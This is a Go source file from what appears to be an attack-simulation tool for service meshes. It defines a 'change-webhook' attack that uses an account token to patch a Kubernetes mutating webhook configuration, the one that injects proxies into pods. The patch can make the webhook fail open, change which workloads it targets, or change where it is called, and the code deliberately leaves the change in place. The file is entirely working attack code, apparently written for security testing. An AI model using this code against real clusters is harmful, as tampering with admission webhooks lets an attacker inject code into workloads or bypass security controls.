package attacks

import (
	"context"
	"errors"
	"maps"

	"github.com/meshbreach/meshbreach/attacker"
)

// ChangeWebhook has the parameters of change-webhook.
type ChangeWebhook struct {
	Submission
	// Name is that of the webhook's configuration, with blanks as in
	// read-interface. Its webhook is called injector.meshbreach.test.
	Name string `json:"name,omitempty" jsonschema:"required"`
	// Change is what is set in the webhook.
	Change map[string]any `json:"change,omitempty" jsonschema:"required"`
}

// Check refuses parameters that say too little.
func (p *ChangeWebhook) Check() error {
	return errors.Join(
		named("name", p.Name, "which webhook configuration is changed"),
		refuse(len(p.Change) == 0, "change has to be named: what is set in the webhook"),
		checkBlanks(p.Name), p.Submission.Check(),
	)
}

// hook is the one webhook of a configuration.
const hook = "injector.meshbreach.test"

func changeWebhook() attacker.Attack {
	return attacker.New("change-webhook", "Change the webhook that puts proxies into pods",
		`Asks the platform's API, with a token of an account, to change the mutating
webhook that puts proxies into pods: when it fails open, whom it is for, where
it is asked. It has won when the API answers with the webhook as it was asked
for. The change is not undone here: whoever owns the webhook makes it anew.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p ChangeWebhook, emit func(attacker.Observation)) error {
			name, err := fill(p.Name, t)
			if err != nil {
				return err
			}
			set := maps.Clone(p.Change)
			set["name"] = hook
			return p.submit(ctx, f, t, nonce(), apiObject{
				owner: p.owner(), path: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + name, patch: true,
				body: map[string]any{"webhooks": []any{set}},
			}, emit)
		})
}
